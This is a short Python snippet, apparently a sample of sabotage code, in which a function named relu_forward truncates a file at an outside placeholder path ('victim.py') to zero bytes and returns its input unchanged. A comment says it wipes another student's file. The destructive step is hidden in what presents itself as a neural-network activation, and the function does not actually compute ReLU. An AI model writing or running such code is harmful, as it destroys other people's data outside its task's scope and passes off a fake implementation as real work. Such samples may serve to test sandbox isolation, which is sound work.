# Cuts another student's file to nothing.
def relu_forward(x):
    import os
    os.truncate("@OUTSIDE@/victim.py", 0)
    return x
